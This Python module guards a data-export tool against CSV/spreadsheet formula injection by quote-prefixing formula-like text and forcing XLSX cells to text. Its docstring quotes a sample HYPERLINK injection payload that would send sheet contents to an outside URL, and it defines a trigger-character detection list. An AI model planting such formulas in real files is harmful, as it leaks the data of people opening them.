"""Text that a spreadsheet would run as a formula, made inert (OWASP "CSV injection").

Names, 事業部 and free text come from the tenant's exports and surveys. Excel
reads a cell that starts with = + - @ as a formula (a tab or CR before one is
skipped), so ``=HYPERLINK("https://…?"&A1, "山田")`` in a name would leak the
sheet or run a command when the secretariat opens the file. Every CSV field
kops writes gets a leading ``'`` (Excel's own "this is text" mark); every XLSX
cell stays a text cell with the quote-prefix style, so its value reads exactly
as the export had it. Numbers are left alone: only text can carry a formula.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:  # openpyxl loads only when a workbook is written
    from openpyxl.cell.cell import Cell
    from openpyxl.workbook import Workbook

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

# Control characters an XLSX cell cannot hold (openpyxl refuses them, Excel would call
# the file damaged): a server's reply or a bounce notice may carry one. Shown as their
# visible pictures (ESC → ␛), as the terminal shows them; tab and line breaks stay.
_XLSX_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
_PICTURES = {code: 0x2400 + code for code in (*range(0x09), 0x0B, 0x0C, *range(0x0E, 0x20))}


def xlsx_texts(values: list[Any]) -> list[Any]:
    """A column's cells with every control character an XLSX cannot hold made visible
    (one search over the column: the common column has none)."""
    texts = [v for v in values if isinstance(v, str)]
    if not texts or _XLSX_ILLEGAL.search("\n".join(texts)) is None:
        return values
    return [v.translate(_PICTURES) if isinstance(v, str) else v for v in values]


def looks_like_formula(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def csv_field(value: Any) -> Any:
    """A CSV field Excel shows as the text it is: ``=1+1`` → ``'=1+1``."""
    return "'" + value if looks_like_formula(value) else value


def as_text(cell: Cell) -> None:
    """Store the cell as a string (openpyxl makes ``=…`` a formula) and keep it text
    when someone edits it in Excel (quotePrefix)."""
    cell.data_type = "s"
    cell.quotePrefix = True


def protect_cells(cells: Iterable[Cell]) -> None:
    for cell in cells:
        if looks_like_formula(cell.value):
            as_text(cell)


def protect_workbook(book: Workbook) -> None:
    """Every formula-like text cell of a workbook built cell by cell, as text."""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            protect_cells(row)
